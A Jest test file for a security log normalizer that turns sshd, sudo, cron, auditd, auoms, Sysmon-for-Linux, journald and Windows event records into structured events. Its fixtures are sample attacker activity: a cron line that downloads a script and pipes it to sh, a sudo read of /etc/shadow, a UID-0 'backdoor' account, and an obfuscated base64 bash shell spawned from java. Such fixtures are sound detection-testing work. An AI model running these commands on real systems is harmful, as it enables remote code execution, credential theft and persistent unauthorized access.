import { normalizeEvent, normalizeRequestEvents } from '../normalize';

describe('syslog lines (RFC 3164)', () => {
  it('reads an sshd accepted password as a logon with account, address and port', () => {
    const ev = normalizeEvent('Apr  3 14:22:00 srv-prod-01 sshd[2211]: Accepted password for admin from 185.220.101.42 port 50122 ssh2', 0, 'x');
    expect(ev.format).toBe('syslog');
    expect(ev.logsource).toEqual({ product: 'linux', service: 'sshd' });
    expect(ev.action).toBe('logon');
    expect(ev.outcome).toBe('success');
    expect(ev.entities).toMatchObject({ user: 'admin', targetUser: 'admin', srcIp: '185.220.101.42', srcPort: 50122, host: 'srv-prod-01' });
    expect(ev.entities.process).toBeUndefined(); // the reporting daemon is not an actor
    expect(ev.fields).toMatchObject({ host: 'srv-prod-01', program: 'sshd', pid: '2211', auth_method: 'password', message: 'Accepted password for admin from 185.220.101.42 port 50122 ssh2' });
    expect(ev.message).toBe('Accepted password for admin from 185.220.101.42 port 50122 ssh2');
    expect(ev.time).toBeUndefined(); // no year: only a batch can date it
  });

  it.each([
    ['Failed password for root from 45.9.148.108 port 41122 ssh2', 'root', false],
    ['Failed password for invalid user oracle from 45.9.148.108 port 41122 ssh2', 'oracle', true],
    ['Invalid user test from 45.9.148.108 port 41200', 'test', true],
    ['Failed publickey for git from 45.9.148.108 port 41122 ssh2', 'git', false],
  ])('reads "%s" as a failed logon', (msg, user, invalid) => {
    const ev = normalizeEvent(`Apr  3 14:21:00 srv sshd[1]: ${msg}`, 0, 'x');
    expect(ev.action).toBe('logon_failed');
    expect(ev.outcome).toBe('failure');
    expect(ev.entities.targetUser).toBe(user);
    expect(ev.entities.srcIp).toBe('45.9.148.108');
    expect(ev.fields.invalid_user === 'true').toBe(invalid);
  });

  it('reads sudo commands with the invoking and target accounts', () => {
    const ev = normalizeEvent('Apr  3 14:26:10 srv sudo:    admin : TTY=pts/0 ; PWD=/home/admin ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow', 0, 'x');
    expect(ev.logsource).toEqual({ product: 'linux', service: 'sudo' });
    expect(ev.action).toBe('privilege_use');
    expect(ev.outcome).toBe('success');
    expect(ev.entities).toMatchObject({ user: 'admin', targetUser: 'root', commandLine: '/usr/bin/cat /etc/shadow' });
    expect(ev.fields.CommandLine).toBe('/usr/bin/cat /etc/shadow');
  });

  it('reads su, useradd, usermod and cron', () => {
    const su = normalizeEvent('Apr  3 14:27:00 srv su[90]: (to root) admin on pts/1', 0, 'x');
    expect([su.action, su.entities.user, su.entities.targetUser, su.logsource.service]).toEqual(['privilege_use', 'admin', 'root', 'auth']);
    const add = normalizeEvent('Apr  3 14:28:00 srv useradd[91]: new user: name=backdoor, UID=0, GID=0, home=/root, shell=/bin/bash', 0, 'x');
    expect([add.action, add.entities.targetUser, add.logsource.service, add.fields.uid]).toEqual(['account_created', 'backdoor', 'auth', '0']);
    const mod = normalizeEvent("Apr  3 14:28:05 srv usermod[92]: add 'backdoor' to group 'sudo'", 0, 'x');
    expect([mod.action, mod.entities.targetUser, mod.fields.group]).toEqual(['group_member_added', 'backdoor', 'sudo']);
    const cron = normalizeEvent('Apr  3 14:30:01 srv CRON[93]: (root) CMD (curl -s http://203.0.113.7/x.sh | sh)', 0, 'x');
    expect([cron.action, cron.logsource.service, cron.entities.user, cron.entities.commandLine]).toEqual(['task_run', 'cron', 'root', 'curl -s http://203.0.113.7/x.sh | sh']);
  });

  it('keeps lines of other daemons as service syslog', () => {
    const ev = normalizeEvent('Apr  3 14:30:01 srv named[5]: client 10.0.0.5#5353: zone transfer denied', 0, 'x');
    expect(ev.logsource).toEqual({ product: 'linux', service: 'syslog' });
    expect(ev.action).toBeUndefined();
  });
});

describe('syslog lines (RFC 5424)', () => {
  it('reads the structured header with its own full timestamp', () => {
    const ev = normalizeEvent('<38>1 2026-04-03T16:22:00.5+02:00 srv-prod-01 sshd 2211 - - Accepted publickey for deploy from 10.0.0.8 port 60000 ssh2', 0, 'x');
    expect(ev.format).toBe('syslog');
    expect(ev.time).toBe(Date.UTC(2026, 3, 3, 14, 22, 0, 500));
    expect(ev.fields).toMatchObject({ facility: 'auth', severity: 'info', program: 'sshd' });
    expect(ev.entities).toMatchObject({ user: 'deploy', srcIp: '10.0.0.8' });
  });
});

describe('year-less syslog times in a batch', () => {
  const line = 'Dec 30 23:59:00 srv sshd[1]: Failed password for root from 1.2.3.4 port 1 ssh2';

  it('take the median year of the dated events', () => {
    const r = normalizeRequestEvents({
      logs: [{ timestamp: '2024-12-30T10:00:00Z', action: 'login', user: 'a' }, { timestamp: '2024-12-31T10:00:00Z', action: 'login', user: 'a' }, { timestamp: '2019-01-01T00:00:00Z', action: 'x' }],
      auth: [line],
    });
    expect(r.events[3].time).toBe(Date.UTC(2024, 11, 30, 23, 59));
    expect(r.untimed).toBe(0);
  });

  it('fall back to the reference time, moving a December line before a January reference to the year before', () => {
    const r = normalizeRequestEvents({ auth: [line] }, { referenceTime: Date.UTC(2027, 0, 2) });
    expect(r.events[0].time).toBe(Date.UTC(2026, 11, 30, 23, 59));
  });

  it('stay untimed without dated events or a reference', () => {
    const r = normalizeRequestEvents({ auth: [line] });
    expect(r.events[0].time).toBeUndefined();
    expect(r.untimed).toBe(1);
  });
});

describe('auditd records', () => {
  it('decodes hex EXECVE arguments into a command line (process_creation)', () => {
    const ev = normalizeEvent('type=EXECVE msg=audit(1775226300.123:4411): argc=3 a0="curl" a1="-o" a2=2F746D702F782073682E7368', 0, 'x');
    expect(ev.format).toBe('auditd');
    expect(ev.logsource).toEqual({ product: 'linux', service: 'auditd', category: 'process_creation' });
    expect(ev.fields).toMatchObject({ type: 'EXECVE', a0: 'curl', a1: '-o', a2: '/tmp/x sh.sh', CommandLine: 'curl -o /tmp/x sh.sh' });
    expect(ev.time).toBe(1775226300123);
    expect(ev.action).toBe('process_create');
    expect(ev.entities.commandLine).toBe('curl -o /tmp/x sh.sh');
  });

  it('reads SYSCALL records with exe, key and success', () => {
    const ev = normalizeEvent('type=SYSCALL msg=audit(1775226300.100:4410): arch=c000003e syscall=59 success=yes exit=0 a0=55d a1=55e ppid=900 pid=901 auid=1000 uid=0 euid=0 comm="curl" exe="/usr/bin/curl" key="susp_download"', 0, 'x');
    expect(ev.fields).toMatchObject({ syscall: '59', exe: '/usr/bin/curl', key: 'susp_download', a0: '55d', comm: 'curl' });
    expect(ev.outcome).toBe('success');
    expect(ev.entities.process).toBe('/usr/bin/curl');
  });

  it("reads the quoted msg='...' of USER_LOGIN and a failed result", () => {
    const ev = normalizeEvent(`type=USER_LOGIN msg=audit(1775226200.000:300): pid=777 uid=0 auid=4294967295 ses=4294967295 msg='op=login acct="root" exe="/usr/sbin/sshd" hostname=? addr=45.9.148.108 terminal=sshd res=failed'`, 0, 'x');
    expect(ev.action).toBe('logon_failed');
    expect(ev.outcome).toBe('failure');
    expect(ev.entities).toMatchObject({ user: 'root', targetUser: 'root', srcIp: '45.9.148.108', process: '/usr/sbin/sshd' });
  });

  it('reads audit records forwarded through syslog', () => {
    const ev = normalizeEvent('Apr  3 14:22:00 srv audispd: type=EXECVE msg=audit(1775226300.123:4411): argc=2 a0="id" a1="-a"', 0, 'x');
    expect(ev.format).toBe('auditd');
    expect(ev.fields.CommandLine).toBe('id -a');
    expect(ev.entities.host).toBe('srv');
  });
});

describe('collector-split syslog objects', () => {
  it('reads an auoms audit record carried in a syslog object', () => {
    const ev = normalizeEvent(
      { timestamp: '2022-05-11T18:10:21.000Z', source: 'linux', Provider: 'syslog', Computer: 'UBUNTU5', Facility: 'user', SeverityLevel: 'info', ProcessName: 'auoms', message: 'type=AUOMS_EXECVE audit(1652292621.986:84138): syscall=execve success=no user=tomcat uid=1001 comm="java" exe="/usr/lib/jvm/bin/java" cwd="/" proctitle=/usr/lib/jvm/bin/java -Dx=1 -server redactors= containerid=' },
      0,
      'x',
    );
    expect(ev.format).toBe('auditd');
    expect(ev.logsource).toMatchObject({ product: 'linux', service: 'auditd' });
    expect(ev.outcome).toBe('failure');
    expect(ev.fields).toMatchObject({ Computer: 'UBUNTU5', exe: '/usr/lib/jvm/bin/java', proctitle: '/usr/lib/jvm/bin/java -Dx=1 -server' });
    expect(ev.entities).toMatchObject({ user: 'tomcat', process: '/usr/lib/jvm/bin/java', host: 'UBUNTU5' });
    expect(ev.time).toBe(1652292621986);
  });

  it('reads Sysmon for Linux XML carried in a syslog object as Linux process creation', () => {
    const xml =
      '<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><TimeCreated SystemTime="2022-05-11T18:10:22.003485000Z"/><Channel>Linux-Sysmon/Operational</Channel><Computer>UBUNTU5</Computer><Security UserId="0"/></System>' +
      '<EventData><Data Name="Image">/bin/bash</Data><Data Name="CommandLine">bash -c {echo,YmFzaA==}|{base64,-d}|{bash,-i} &amp;&amp; id</Data><Data Name="User">tomcat</Data><Data Name="ParentImage">/usr/bin/java</Data></EventData></Event>';
    const ev = normalizeEvent({ timestamp: '2022-05-11T18:10:22.000Z', source: 'linux', Provider: 'syslog', Computer: 'UBUNTU5', ProcessName: 'sysmon', message: xml }, 0, 'x');
    expect(ev.format).toBe('sysmon');
    expect(ev.logsource).toEqual({ product: 'linux', service: 'sysmon', category: 'process_creation' });
    expect(ev.fields).toMatchObject({ Image: '/bin/bash', CommandLine: 'bash -c {echo,YmFzaA==}|{base64,-d}|{bash,-i} && id', ParentImage: '/usr/bin/java', EventID: 1 });
    expect(ev.entities).toMatchObject({ user: 'tomcat', process: '/bin/bash', host: 'UBUNTU5' });
  });

  it('reads a plain daemon message with program and host fields', () => {
    const ev = normalizeEvent({ '@timestamp': '2026-04-03T14:21:00Z', host: 'srv', program: 'sshd', pid: 12, facility: 'auth', message: 'Failed password for root from 45.9.148.108 port 4000 ssh2' }, 0, 'x');
    expect(ev.format).toBe('syslog');
    expect(ev.action).toBe('logon_failed');
    expect(ev.time).toBe(Date.UTC(2026, 3, 3, 14, 21));
    expect(ev.entities).toMatchObject({ targetUser: 'root', srcIp: '45.9.148.108', host: 'srv' });
  });

  it('reads systemd journal records (journalctl -o json) as the syslog lines they stand for', () => {
    const journal = {
      __CURSOR: 's=1;i=2',
      __REALTIME_TIMESTAMP: '1709287200123456',
      _HOSTNAME: 'web1',
      _COMM: 'sshd',
      SYSLOG_IDENTIFIER: 'sshd',
      _PID: '1234',
      SYSLOG_FACILITY: '4',
      PRIORITY: '6',
      _SYSTEMD_UNIT: 'ssh.service',
      MESSAGE: 'Failed password for invalid user oracle from 45.9.148.108 port 41122 ssh2',
    };
    const ev = normalizeEvent(journal, 0, 'x');
    expect(ev.format).toBe('syslog');
    expect(ev.logsource).toEqual({ product: 'linux', service: 'sshd' });
    expect(ev.action).toBe('logon_failed');
    expect(ev.time).toBe(Date.UTC(2024, 2, 1, 10, 0, 0, 123));
    expect(ev.entities).toMatchObject({ targetUser: 'oracle', srcIp: '45.9.148.108', host: 'web1' });
    expect(ev.fields).toMatchObject({ program: 'sshd', pid: '1234', message: journal.MESSAGE });
    // A unit's own program name when the journal has no syslog identifier.
    const sudo = normalizeEvent({ __REALTIME_TIMESTAMP: '1709287205000000', _COMM: 'sudo', _HOSTNAME: 'web1', MESSAGE: '   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash' }, 1, 'x');
    expect(sudo.logsource).toEqual({ product: 'linux', service: 'sudo' });
    expect(sudo.entities).toMatchObject({ user: 'alice', targetUser: 'root' });
  });
});

describe('Windows event XML lines', () => {
  it('splits pretty-printed XML per Event element', () => {
    const text = `<Events>
<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">
  <System><Provider Name="Microsoft-Windows-Security-Auditing"/><EventID>4625</EventID><TimeCreated SystemTime="2026-02-09T23:10:00.000Z"/><Channel>Security</Channel><Computer>RDS-01</Computer></System>
  <EventData><Data Name="TargetUserName">backup</Data><Data Name="IpAddress">80.94.95.112</Data></EventData>
</Event>
<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">
  <System><EventID>4624</EventID><Channel>Security</Channel><Computer>RDS-01</Computer></System>
  <EventData><Data Name="TargetUserName">backup</Data></EventData>
</Event>
</Events>`;
    const r = normalizeRequestEvents({ evtx: text });
    expect(r.events.map((e) => [e.format, e.action])).toEqual([
      ['windows', 'logon_failed'],
      ['windows', 'logon'],
    ]);
    expect(r.events[0].entities).toMatchObject({ targetUser: 'backup', srcIp: '80.94.95.112' });
    expect(r.events[0].time).toBe(Date.UTC(2026, 1, 9, 23, 10));
  });
});

describe('shipped syslog lines', () => {
  it('reads a whole syslog line kept in the message of a Logstash-style document', () => {
    const ev = normalizeEvent({ '@timestamp': '2026-04-03T14:22:00.000Z', host: 'collector', message: '<38>Apr  3 14:22:00 srv-prod-01 sshd[2211]: Accepted password for admin from 185.220.101.42 port 50122 ssh2' }, 0, 'x');
    expect(ev.format).toBe('syslog');
    expect(ev.action).toBe('logon');
    expect(ev.time).toBe(Date.UTC(2026, 3, 3, 14, 22));
    expect(ev.entities).toMatchObject({ host: 'srv-prod-01', srcIp: '185.220.101.42', targetUser: 'admin' });
    expect(ev.logsource).toEqual({ product: 'linux', service: 'sshd' });
  });
});

describe('auoms execve records', () => {
  it('reads a completed execve as Linux process creation, with an unescaped quoted command line', () => {
    const msg = 'type=AUOMS_EXECVE audit(1652292621.990:84143): syscall=execve success=yes exit=0 ppid=1340 pid=17790 user=tomcat uid=1001 comm="bash" exe="/bin/bash" cwd="/" argc=3 cmdline="bash -c "{echo,YmFzaA==}|{base64,-d}|{bash,-i}"" redactors= containerid=';
    const ev = normalizeEvent({ timestamp: '2022-05-11T18:10:21.000Z', source: 'linux', Provider: 'syslog', Computer: 'UBUNTU5', ProcessName: 'auoms', message: msg }, 0, 'x');
    expect(ev.logsource).toEqual({ product: 'linux', service: 'auditd', category: 'process_creation' });
    expect(ev.fields).toMatchObject({ Image: '/bin/bash', CommandLine: 'bash -c "{echo,YmFzaA==}|{base64,-d}|{bash,-i}"', User: 'tomcat', ParentProcessId: '1340' });
    expect(ev.entities).toMatchObject({ process: '/bin/bash', commandLine: 'bash -c "{echo,YmFzaA==}|{base64,-d}|{bash,-i}"', user: 'tomcat', processId: '17790', parentProcessId: '1340' });
  });
});
